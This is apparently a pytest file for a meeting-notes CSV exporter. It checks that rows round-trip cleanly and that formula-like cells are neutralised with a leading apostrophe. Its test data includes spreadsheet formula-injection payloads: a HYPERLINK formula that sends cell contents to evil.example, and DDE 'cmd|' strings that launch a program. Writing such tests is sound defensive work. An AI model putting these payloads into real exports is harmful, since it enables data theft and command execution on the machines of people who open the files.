"""The export as CSV, read back by the standard library's reader."""

import csv
import io

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from api.exports import tables
from api.exports.material import Material
from orchestrator.meeting.cleaning import clean
from tests.unit.api.exporting import material, poisoned
from tests.unit.api.test_report_page import HOSTILE

FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+1-1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200b=1+1",
    "＝1+1",
)


def rows(of: Material) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(tables.write(of), newline="")))


def test_an_item_is_a_row_with_all_that_is_known_of_it() -> None:
    written = rows(material())

    assert [(row["kind"], row["number"]) for row in written] == [
        ("action_items", "1"),
        ("action_items", "2"),
        ("decisions", "1"),
    ]
    assert written[0] == {
        "kind": "action_items",
        "number": "1",
        "id": "itm_Write the notes",
        "text": "Write the notes",
        "owner": "Ann",
        "owner_id": "",
        "due": "by Thursday",
        "due_date": "2026-11-26",
        "confidence": "0.87",
        "verified": "true",
        "seats": "1",
        "quotes": "I will write the notes by Thursday",
        "said_by": "Ann, 1:05",
        "utterances": "u3",
    }
    assert (written[1]["owner"], written[1]["due"], written[1]["verified"]) == ("", "", "false")
    assert (written[2]["said_by"], written[2]["utterances"]) == ("Ann, 0:00; Ben, 1:01", "u1 | u2")


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_begins_like_a_formula(text: str) -> None:
    cells = [cell for row in rows(poisoned(text)) for cell in row.values()]

    assert len(cells) == 5 * len(tables.COLUMNS)
    assert not any(cell.lstrip().startswith(tuple("=+-@＝＋－＠")) for cell in cells)
    assert f"'{clean(text)}" in cells


@pytest.mark.parametrize(
    "text", ["=1", "+1", "-1", "@A1", "\t=1", "\r1", "\n1", "  =1", " \t-1", "＝1", "＋1", "－1", "＠A1"]
)
def test_a_formula_gets_an_apostrophe_in_front(text: str) -> None:
    assert tables.harmless(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "1+1", "Ann = Bob", "3 - 2", "a@example.org", "'quoted'"])
def test_other_words_stay_as_they_are(text: str) -> None:
    assert tables.harmless(text) == text


@given(st.text(min_size=1, max_size=60))
@example('"')
@example('a,b"c\r\nd')
def test_whatever_is_said_it_is_one_row_of_as_many_cells(text: str) -> None:
    written = tables.write(poisoned(text))
    read = list(csv.reader(io.StringIO(written, newline=""), strict=True))

    assert [len(row) for row in read] == [len(tables.COLUMNS)] * 6
    assert {row[3].removeprefix("'") for row in read[1:]} == {clean(text).removeprefix("'")}
    assert written.count("\r\n") == 6
    assert written.replace("\r\n", "").isprintable() or "\n" not in written.replace("\r\n", "")


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_words_stay_words(text: str) -> None:
    assert {row["text"] for row in rows(poisoned(text))} == {text}


def test_a_job_without_items_is_a_table_with_a_head_alone() -> None:
    nothing = material(material().analysis.model_copy(update={"decisions": (), "action_items": ()}))

    assert tables.write(nothing) == ",".join(tables.COLUMNS) + "\r\n"
